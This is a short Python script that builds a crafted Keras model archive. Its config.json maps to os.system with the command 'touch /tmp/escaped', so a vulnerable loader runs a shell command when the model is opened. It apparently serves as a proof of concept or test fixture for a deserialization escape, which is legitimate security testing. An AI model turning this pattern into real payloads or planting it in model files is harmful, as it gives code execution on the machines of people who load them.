import json
import zipfile

CONFIG = {"module": "os", "class_name": "system", "config": {"command": "touch /tmp/escaped"}, "registered_name": None}


def save(folder):
    with zipfile.ZipFile(folder / "model.keras", "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.0"}))
        archive.writestr("config.json", json.dumps(CONFIG))
        archive.writestr("model.weights.h5", b"")
